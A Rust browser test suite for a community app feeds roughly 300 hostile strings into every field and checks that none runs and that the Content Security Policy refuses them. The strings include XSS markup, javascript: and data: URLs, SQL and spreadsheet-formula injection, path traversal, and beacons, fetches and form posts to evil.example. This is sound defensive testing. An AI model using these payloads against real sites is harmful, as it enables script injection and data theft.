//! A group whose founder means ill: three hundred texts and addresses that are made to break pages, in every field that there is,
//! signed by a real key and brought by a file. Nothing of it runs, and every page stays in its frame.

use p256::ecdsa::signature::Signer;
use p256::ecdsa::{Signature, SigningKey};
use qunban::domain::charter::{ChallengeSetting, Charter, DayItem, Season, Setting};
use qunban::domain::day::Day;
use qunban::domain::fact::{Called, CheckIn, Fact, Mark as Seen, Metric, NewPerson, Published, Role, Stamp, Witnessed};
use qunban::domain::fact::{Origin, PublishedRow};
use qunban::domain::id::{ChallengeId, CommunityId, MemberId, PromiseId, QuestionId, ResourceId, TextId};
use qunban::domain::level::Level;
use qunban::domain::promise::{Deserving, PromiseSetting};
use qunban::domain::questionnaire::{Answer, Choice, Given, Other, Question, QuestionKind};
use qunban::domain::resource::ResourceSetting;
use qunban::domain::wording::OwnText;
use qunban::exchange::link::{self, Inviter};
use qunban::i18n::Lang;
use qunban::i18n::data::Data;
use qunban::log::chain::Chain;
use qunban::log::entry::{Entry, Text, Words};
use qunban::log::export::{File, Writer};
use qunban::log::hex::Hex;
use qunban::log::key::{Mark, PublicKey, feed_of, statement_of};
use qunban::route::Page;
use qunban_e2e::{Browser, Site};
use serde_json::{Value, json};
use thirtyfour::error::WebDriverResult;

use crate::claims::{exported, import, join, phone};

const ZH: Lang = Lang::ZhHans;
/// The day that the phones of the journeys show.
const TODAY: Day = Day(20_764);
const CHALLENGE: ChallengeId = ChallengeId::from_bits(7);
const FOUNDER: MemberId = MemberId::from_bits(1);
const COUNT: usize = 300;

/// What a script of ours would leave behind.
const HIT: &str = "window.__hit=(window.__hit||0)+1";

/// What is to run, as markup, as an address, as a template or as a format.
const MARKUP: [&str; 40] = [
    "<script>HIT</script>",
    "\"><script>HIT</script>",
    "'><script>HIT</script>",
    "</title><script>HIT</script>",
    "</textarea><script>HIT</script>",
    "</style><script>HIT</script>",
    "--><script>HIT</script><!--",
    "]]><script>HIT</script>",
    "<ScRiPt>HIT</sCrIpT>",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "<script\u{0b}>HIT</script>",
    "<script src=data:text/javascript,HIT></script>",
    "<img src=x onerror=HIT>",
    "<img src=x onerror='HIT'>",
    "\"><img src=x onerror=HIT>",
    "' onmouseover='HIT' x='",
    "\" onfocus=\"HIT\" autofocus=\"",
    "<svg onload=HIT>",
    "<svg><script>HIT</script></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=HIT></style></mglyph></math>",
    "<iframe srcdoc='<script>parent.HIT</script>'>",
    "<iframe src=javascript:HIT>",
    "<object data=javascript:HIT>",
    "<embed src=javascript:HIT>",
    "<body onload=HIT>",
    "<details open ontoggle=HIT>",
    "<video><source onerror=HIT></video>",
    "<input autofocus onfocus=HIT>",
    "<a href=javascript:HIT>x</a>",
    "<form action=javascript:HIT><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "&lt;script&gt;HIT&lt;/script&gt;",
    "&#60;script&#62;HIT&#60;/script&#62;",
    "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "%3Cscript%3EHIT%3C/script%3E",
    "{{constructor.constructor('HIT')()}} ${HIT} #{HIT} <%= HIT %>",
];

const ADDRESSES: [&str; 30] = [
    "javascript:HIT",
    "JaVaScRiPt:HIT",
    " javascript:HIT",
    "java\tscript:HIT",
    "java\nscript:HIT",
    "\u{1}javascript:HIT",
    "javascript://example.org/%0aHIT",
    "javascript&colon;HIT",
    "javascript\u{200b}:HIT",
    "\u{202e}tpircsavaj:HIT",
    "data:text/html,<script>HIT</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload='HIT'/>",
    "vbscript:HIT",
    "blob:https://example.org/HIT",
    "file:///etc/passwd",
    "filesystem:http://example.org/x",
    "about:blank#HIT",
    "view-source:javascript:HIT",
    "intent://scan/#Intent;scheme=zxing;end",
    "weixin://dl/business/?t=HIT",
    "//evil.example/HIT",
    "\\\\evil.example\\HIT",
    "https:evil.example",
    "https://user:pass@evil.example/",
    "https://bank.example@evil.example/",
    "https://exаmple.org/",
    "https://example.org/\"onmouseover=\"HIT",
    "https://example.org/'><script>HIT</script>",
    "http://[::1]:22/HIT",
];

/// What is to disturb: directions, heaps of marks, length, what cannot be seen, what formats take for their own.
fn odd() -> Vec<String> {
    let mut all: Vec<String> = [
        "\u{202e}txet desrever\u{202c}",
        "\u{2066}\u{202e}\u{2067}isolates without an end",
        "مرحبا بالعالم",
        "שלום עולם",
        "\u{0}\u{1}\u{8}\u{b}\u{c}\u{1b}[31mred",
        "\u{feff}\u{200b}\u{200c}\u{200d}\u{2060}",
        "\u{e0041}\u{e0042}tags",
        "\u{fff9}\u{fffa}\u{fffb}\u{fffd}\u{ffff}",
        "👨‍👩‍👧‍👦🏳️‍🌈👩🏽‍❤️‍💋‍👨🏿",
        "%s%n%d %x {0} {} %(name)s $1 \\1",
        "'; DROP TABLE members; --",
        "=HYPERLINK(\"https://evil.example\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "../../../../etc/passwd",
        "__proto__",
        "constructor",
        "null",
        "undefined",
        "NaN",
        "-0",
        "1e999",
        "true",
        "[object Object]",
        "\r\nSet-Cookie: x=y",
        "line one\nline two\r\nline three\u{2028}line four\u{2029}end",
        "\t\t\t",
        "　　　",
        "Ｆｕｌｌ　ｗｉｄｔｈ",
        "a/b\\c:d*e?f\"g<h>i|j",
    ]
    .map(str::to_owned)
    .to_vec();
    all.push(format!("Z{}", "\u{0334}\u{0315}\u{0360}".repeat(60)));
    all.push("长".repeat(900));
    all.push("W".repeat(900));
    all.push("字 ".repeat(400));
    all.push(format!("https://example.org/{}", "a".repeat(900)));
    all.push("\u{300}".repeat(300));
    all.push("<".repeat(700));
    all.push("&".repeat(700));
    all.push("(".repeat(700));
    all.push("\u{1f600}".repeat(200));
    all
}

/// Three hundred of them: each alone, then glued to ordinary words and to each other.
fn texts() -> Vec<String> {
    let armed = |text: &&str| text.replace("HIT", HIT);
    let mut all: Vec<String> = MARKUP.iter().chain(&ADDRESSES).map(armed).chain(odd()).collect();
    let plain = all.clone();
    let mut place = 0;
    while all.len() < COUNT {
        let (one, other) = (&plain[place % plain.len()], &plain[(place * 7 + 3) % plain.len()]);
        let short = cut(other, 100);
        all.push(if place < plain.len() { format!("晨读{one}打卡") } else { format!("{short}{one}") });
        place += 1;
    }
    all.iter().map(|text| cut(text, 240)).collect()
}

fn cut(text: &str, most: usize) -> String {
    text.chars().take(most).collect()
}

/// The founder's feed as it grows.
struct Founder {
    key: SigningKey,
    chain: Chain,
    texts: Vec<Text>,
    salt: u8,
}

impl Founder {
    fn new() -> Self {
        let key = SigningKey::from_bytes(&[66; 32].into()).expect("within the curve's order");
        Self { key, chain: Chain::default(), texts: Vec::new(), salt: 0 }
    }

    fn public(&self) -> PublicKey {
        let point = self.key.verifying_key().to_encoded_point(false);
        Hex(point.as_bytes().try_into().expect("an uncompressed point has 65 bytes"))
    }

    fn community(&self) -> CommunityId {
        feed_of(&self.public())
    }

    fn says(&mut self, fact: Fact, note: Option<&str>) -> Origin {
        self.salt = self.salt.wrapping_add(1);
        let note = note.map(str::to_owned);
        let words = note.map_or(Words::None, |note| Words::Kept { salt: Hex([self.salt; 16]), note });
        let (seq, clock) = (self.chain.end, self.chain.clock + 1);
        let at = i64::from(TODAY.0) * 86_400 - 40_000 + i64::from(seq);
        let text = Entry { seq, clock, at, fact, words }.write().expect("a fact of this size can be written");
        self.chain.push(&text).expect("the next entry");
        self.texts.push(text);
        Origin { feed: self.community(), seq }
    }

    fn file(&self, name: &str) -> String {
        let (community, key) = (self.community(), self.public());
        let signature: Signature = self.key.sign(&statement_of(community, community, &self.chain));
        let mark = Mark { end: self.chain.end, hash: self.chain.hash, signature: Hex(signature.to_bytes().into()) };
        let mut writer = Writer::new(community, name, 1_762_000_000);
        writer.feed(community, &key, &[mark], &self.texts);
        writer.finish(&[])
    }
}

fn settings(texts: &[String]) -> Vec<Setting> {
    let of = |setting| Setting::Challenge(CHALLENGE, setting);
    vec![
        Setting::Name(texts[0].clone()),
        Setting::Zone("Asia/Shanghai".into()),
        Setting::Intro(texts[12].clone()),
        of(ChallengeSetting::Title(texts[17].clone())),
        of(ChallengeSetting::What(texts[14].clone())),
        of(ChallengeSetting::Unit(Some(texts[16].clone()))),
        of(ChallengeSetting::Season(Season { first: TODAY.plus(-20), last: None })),
    ]
}

/// Every text in every field.
fn story(founder: &mut Founder, texts: &[String]) {
    founder.says(
        Fact::Found { member: FOUNDER, name: texts[1].clone(), on: TODAY.plus(-20), settings: settings(texts) },
        None,
    );
    let set = |settings| Fact::Set { from: TODAY.plus(-20), settings };
    for part in texts.chunks(4) {
        founder.says(set(vec![Setting::Rules(part.to_vec())]), None);
        founder.says(set(vec![Setting::Categories(part.to_vec())]), None);
        founder.says(set(vec![Setting::Challenge(CHALLENGE, ChallengeSetting::Tasks(part.to_vec()))]), None);
        founder.says(set(vec![Setting::Tiers(part.to_vec())]), None);
        founder.says(set(vec![Setting::Inside(part[0].clone())]), None);
        let items = part.iter().zip(0..).map(|(what, hour)| DayItem { minute: hour * 60, what: what.clone() });
        founder.says(set(vec![Setting::Timetable(items.collect())]), None);
        let levels = part.iter().zip(1..).map(|(name, level)| Level { points: level * 10, name: name.clone() });
        founder.says(set(vec![Setting::Levels(levels.collect())]), None);
    }
    let mut order = Vec::new();
    for (place, part) in texts.chunks(6).enumerate() {
        let (id, text) = (QuestionId::from_bits(place as u32), |at: usize| part[at % part.len()].clone());
        let kind = match place % 3 {
            0 => QuestionKind::Single { options: Choice::list(part), other: Other::Open },
            1 => QuestionKind::Long,
            _ => QuestionKind::Number { least: None, most: None, unit: text(3) },
        };
        let question = Question { help: text(1), key: text(2), ..Question::new(text(0), kind) };
        founder.says(set(vec![Setting::Question(id, Box::new(question))]), None);
        order.push(id);
        let given = Given::Open(Answer::Text(text(4)));
        founder.says(Fact::Answer { question: id, given }, None);
        let own = OwnText { name: text(5), text: text(6) };
        founder.says(set(vec![Setting::Text(TextId::from_bits(place as u32), own)]), None);
    }
    founder.says(set(vec![Setting::Questions(order)]), None);
    // Without an end and without a place where a line could break.
    let endless = ["W", "长", "<", "\u{1f600}", "\u{300}"].map(|letter| letter.repeat(900));
    founder.says(set(vec![Setting::Rules(endless[..2].to_vec())]), None);
    for (number, text) in (900u64..).zip(&endless) {
        let settings = vec![ResourceSetting::Title(text.clone()), ResourceSetting::Text(cut(text, 600))];
        founder.says(Fact::Share { resource: ResourceId::from_bits(number), on: TODAY, settings }, None);
        founder.says(Fact::Letter { on: TODAY }, Some(text));
    }
    for (text, number) in texts.iter().zip(0u64..) {
        let (member, other) = (MemberId::from_bits(1_000 + number), &texts[(number as usize * 31 + 5) % texts.len()]);
        let people = vec![NewPerson { id: member, name: text.clone(), on: TODAY.plus(-10) }];
        founder.says(Fact::Roster { people }, None);
        let settings = vec![
            ResourceSetting::Title(text.clone()),
            ResourceSetting::Address(text.clone()),
            ResourceSetting::Text(other.clone()),
            ResourceSetting::About(cut(text, 300)),
            ResourceSetting::Author(cut(text, 200)),
            ResourceSetting::Category(cut(text, 200)),
            ResourceSetting::Tags(vec![cut(text, 100)]),
        ];
        founder.says(Fact::Share { resource: ResourceId::from_bits(number), on: TODAY, settings }, None);
        let day = TODAY.plus(-(number as i32 % 9) - 1);
        founder.says(Fact::CheckIn(CheckIn(CHALLENGE, day, 600, Some(3))), Some(text));
        let mark = Seen { member, minute: Some(601), amount: Some(7), how: Witnessed::Seen };
        founder.says(Fact::Witness { challenge: CHALLENGE, day, marks: vec![mark] }, None);
        let correct = Fact::Correct { challenge: CHALLENGE, period: day, member, status: Called::Missed };
        founder.says(correct, Some(text));
        founder.says(Fact::Tag { member, tag: text.clone(), on: true }, None);
        founder.says(Fact::Tier { member, tier: text.clone() }, None);
        founder.says(Fact::Remark { member, on: TODAY }, Some(text));
        founder.says(Fact::Warn { member, on: TODAY }, Some(text));
        let letter = founder.says(Fact::Letter { on: TODAY }, Some(text));
        if number % 2 == 0 {
            founder.says(Fact::AnswerLetter { letter, on: TODAY }, Some(other));
        }
        let promise = vec![
            PromiseSetting::What(text.clone()),
            PromiseSetting::Cost(cut(text, 200)),
            PromiseSetting::For(Deserving::Rule(other.clone())),
        ];
        founder.says(Fact::Promise { promise: PromiseId::from_bits(number), settings: promise }, None);
        founder.says(Fact::Introduce { on: TODAY }, Some(text));
        founder.says(Fact::Named { name: text.clone() }, None);
        if number % 60 == 0 {
            let rows = vec![PublishedRow { member, rank: 1, value: 3 }];
            let (from, to) = (TODAY.plus(-9), TODAY.plus(-1));
            let (title, metric) = (text.clone(), Metric::Attended);
            let table = Published { challenge: CHALLENGE, title, metric, from, to, on: TODAY, rows };
            founder.says(Fact::Publish(table), None);
        }
    }
}

/// The group's link, with what is said in it, and from whom.
fn hostile_link(founder: &Founder, texts: &[String]) -> String {
    let mut charter = Charter::default();
    for (seq, setting) in settings(texts).into_iter().enumerate() {
        charter.set(Day(0), Stamp { clock: 0, feed: founder.community(), seq: seq as u32 }, setting);
    }
    let inviter = Inviter::new(FOUNDER, "<img src=x onerror=window.__hit=1>");
    link::write_from(inviter.as_ref(), founder.community(), &charter, TODAY, 550)
}

/// What must not be on any page: something that ran, an element that could, a link that is none, a page wider than the screen.
const BROKEN: &str = "
    const broken = [];
    if (window.__hit) broken.push('something ran');
    const alien = 'main script, iframe, frame, object, embed, base ~ base, main style, main link, main meta, [onerror], [onload], [onclick], [onfocus], [onmouseover], [style*=expression]';
    for (const it of document.querySelectorAll(alien)) broken.push('an element: ' + it.outerHTML.slice(0, 120));
    for (const it of document.querySelectorAll('*')) {
        for (const { name } of it.attributes) if (name.startsWith('on')) broken.push('an attribute: ' + name);
    }
    for (const it of document.querySelectorAll('a[href], area[href]')) {
        if (!['http:', 'https:', 'blob:'].includes(it.protocol)) broken.push('a link: ' + it.href.slice(0, 120));
        if (it.username || it.password) broken.push('a link with a name: ' + it.href.slice(0, 120));
    }
    const root = document.documentElement;
    if (root.scrollWidth > innerWidth) {
        const wide = [...document.querySelectorAll('main *')].filter((it) => it.getBoundingClientRect().right > innerWidth + 0.5);
        broken.push(`wider than the screen by ${root.scrollWidth - innerWidth}: ` + wide.slice(0, 4).map((it) => it.tagName + '.' + it.className).join(', '));
    }
    return broken;";

async fn look(browser: &Browser, what: &str, broken: &mut Vec<String>) -> WebDriverResult<()> {
    browser.until("the page's heading", "return document.querySelector('main h1')").await?;
    let Value::Array(seen) = browser.run(BROKEN).await? else { panic!("{what} could not be looked at") };
    broken.extend(seen.iter().map(|one| format!("{what}: {}", one.as_str().unwrap_or_default())));
    broken.extend(browser.complaints().await?.into_iter().map(|text| format!("{what}: {text}")));
    Ok(())
}

#[tokio::test]
async fn three_hundred_hostile_texts_run_nowhere_and_break_no_page() -> WebDriverResult<()> {
    let (site, texts) = (Site::start(), texts());
    assert_eq!(texts.len(), COUNT);
    let mut founder = Founder::new();
    story(&mut founder, &texts);
    let address = site.url(&format!("join/?g={}", hostile_link(&founder, &texts)));
    let browser = phone(&site).await?;
    let mut broken = Vec::new();
    browser.visit(&address).await?;
    look(&browser, "the door", &mut broken).await?;
    join(&browser, &address, "Amy").await?;
    // The founder makes Amy an operator, so that her phone shows the operators' pages too.
    let mine = File::parse(&exported(&browser, &site).await?).expect("a file of ours");
    let amy = mine.feeds.iter().find(|(feed, ..)| *feed != founder.community()).expect("Amy's own feed");
    let joined = Entry::read(&amy.2.entries[0]).expect("an entry of ours").fact;
    let Fact::Join { member, .. } = joined else { panic!("Amy has joined: {joined:?}") };
    founder.says(Fact::Appoint { member, role: Role::Operator, feeds: None }, None);
    import(&browser, &site, &founder.file(&texts[2]), Data(ZH).merge_go()).await?;
    browser.visit(&site.page(Page::Desk)).await?;
    browser
        .until("the operators' desk", "return document.querySelectorAll('main a.row, main button.row').length > 4")
        .await?;
    for &page in Page::ALL {
        browser.visit(&site.page(page)).await?;
        look(&browser, page.path(), &mut broken).await?;
    }
    // One of everything, opened: what the lists lead to.
    for (list, rows) in [(Page::Library, 12), (Page::Members, 6), (Page::Letters, 4), (Page::Promises, 4)] {
        for row in 0..rows {
            browser.visit(&site.page(list)).await?;
            let open = format!(
                "const rows = [...document.querySelectorAll('main .row')].filter((it) => it.getClientRects().length);
                rows[Math.floor(rows.length * {row} / {rows})]?.click();
                return rows.length"
            );
            browser.until("a row", &open).await?;
            look(&browser, &format!("{} {row}", list.path()), &mut broken).await?;
        }
    }
    for within in
        ["charter/?do=group", "charter/?do=timetable", "charter/?do=levels", "report/?do=text", "library/?do=share"]
    {
        browser.visit(&site.url(within)).await?;
        look(&browser, within, &mut broken).await?;
    }
    browser.shot("hostile-last").await?;
    browser.visit(&site.page(Page::Library)).await?;
    browser.shot("hostile-library").await?;
    // It would have been seen.
    browser.run("const it = document.createElement('a'); it.href = 'javascript:1'; it.setAttribute('onfocus', '1'); document.querySelector('main').append(it)").await?;
    assert_eq!(browser.run(BROKEN).await?.as_array().map(Vec::len), Some(3));
    assert!(broken.is_empty(), "{} things are wrong:\n{}", broken.len(), broken.join("\n"));
    Ok(())
}

/// Tries what a text that got into the page as markup would try, and says what was refused and what ran.
const BREAK: &str = "
    const done = arguments[arguments.length - 1];
    const refused = new Set();
    addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
    const put = (name, attributes, text) => {
        const it = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) it.setAttribute(key, value);
        if (text) it.textContent = text;
        document.body.append(it);
        return it;
    };
    const tried = {};
    const attempt = (name, it) => { try { it(); tried[name] = 'went through'; } catch (error) { tried[name] = error.name; } };
    put('script', {}, 'window.__broken = \"an inline script\"');
    put('button', { onclick: 'window.__broken = \"an attribute\"' }).click();
    put('a', { href: 'javascript:window.__broken=\"a link\"' }).click();
    put('script', { src: 'https://evil.example/x.js' });
    put('script', { src: 'data:text/javascript,window.__broken=\"data\"' });
    put('img', { src: 'https://evil.example/x.png' });
    put('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' });
    put('style', {}, 'body { display: none }');
    put('div', { style: 'color: red' });
    put('iframe', { src: 'https://evil.example/' });
    put('object', { data: 'https://evil.example/' });
    put('video', { src: 'https://evil.example/x.mp4' });
    document.querySelector('base').href = 'https://evil.example/';
    put('form', { action: 'https://evil.example/', method: 'post' }).submit();
    attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))));
    attempt('socket', () => new WebSocket('wss://evil.example/'));
    // A driver's script may evaluate texts while it runs itself; what comes later is the page's.
    const later = new Promise((go) => setTimeout(() => {
        attempt('eval', () => eval('window.__broken = \"eval\"'));
        attempt('function', () => new Function('window.__broken = \"a function\"')());
        attempt('timeout', () => setTimeout('window.__broken = \"a timeout\"', 0));
        go();
    }, 0));
    const asked = fetch('https://evil.example/').then(() => 'went through', (error) => error.name);
    navigator.sendBeacon?.('https://evil.example/', 'x');
    Promise.all([asked, later]).then(([fetched]) => setTimeout(() => done({
        refused: [...refused].sort(), tried, fetched, broken: window.__broken ?? null, shown: getComputedStyle(document.body).display,
        base: document.baseURI.startsWith(location.origin),
    }), 500));";

#[tokio::test]
async fn what_the_security_policy_forbids_is_refused() -> WebDriverResult<()> {
    let (site, browser) = (Site::start(), Browser::phone().await?);
    browser.visit(&site.page(Page::Home)).await?;
    let seen = browser.execute_async(BREAK, Vec::new()).await?.json().clone();
    assert_eq!(seen["broken"], Value::Null, "{seen}");
    assert_eq!(seen["fetched"], json!("TypeError"), "{seen}");
    assert_eq!(seen["base"], json!(true), "{seen}");
    assert_ne!(seen["shown"], json!("none"), "{seen}");
    assert_eq!(seen["tried"]["eval"], json!("EvalError"), "{seen}");
    assert_eq!(seen["tried"]["function"], json!("EvalError"), "{seen}");
    let refused = seen["refused"].as_array().expect("a list").clone();
    for directive in [
        "base-uri",
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "media-src",
        "object-src",
        "script-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
        "style-src-elem",
        "worker-src",
    ] {
        assert!(refused.contains(&json!(directive)), "nothing was refused by {directive}: {seen}");
    }
    Ok(())
}

/// The policy of a page as it is served, and the hashes of what stands in it as text.
const POLICY: &str = "
    const done = arguments[arguments.length - 1];
    (async () => {
        const page = new DOMParser().parseFromString(await (await fetch(arguments[0])).text(), 'text/html');
        const first = page.head.querySelector('meta[http-equiv]');
        const hash = async (text) => {
            const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)));
            return \"'sha256-\" + btoa(String.fromCharCode(...digest)) + \"'\";
        };
        const inline = [...page.querySelectorAll('script:not([src]), style')];
        const before = [...page.querySelectorAll('script, style, link, base')].every((it) => first.compareDocumentPosition(it) & Node.DOCUMENT_POSITION_FOLLOWING);
        done({ policy: first.content, hashes: await Promise.all(inline.map((it) => hash(it.textContent))), before });
    })();";

#[tokio::test]
async fn every_page_has_the_policy_and_the_hash_of_what_stands_in_it() -> WebDriverResult<()> {
    let (site, browser) = (Site::start(), Browser::phone().await?);
    browser.visit(&site.page(Page::Home)).await?;
    let pages = Page::ALL.iter().map(|page| site.page(*page)).chain([site.url("404.html")]);
    for address in pages {
        let seen = browser.execute_async(POLICY, vec![json!(address)]).await?.json().clone();
        let policy = seen["policy"].as_str().unwrap_or_default();
        assert!(policy.starts_with("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'"), "{address}: {policy}");
        assert!(!policy.contains("unsafe-inline") && !policy.contains("'unsafe-eval'"), "{address}: {policy}");
        assert!(!policy.contains("http") && !policy.contains('*'), "{address}: {policy}");
        assert_eq!(seen["before"], json!(true), "{address}: something stands before the policy");
        let hashes = seen["hashes"].as_array().expect("a list");
        for hash in hashes {
            assert!(policy.contains(hash.as_str().unwrap_or_default()), "{address} lacks {hash}: {policy}");
        }
        assert_eq!(policy.matches("'sha256-").count(), hashes.len(), "{address}: {policy}");
    }
    Ok(())
}
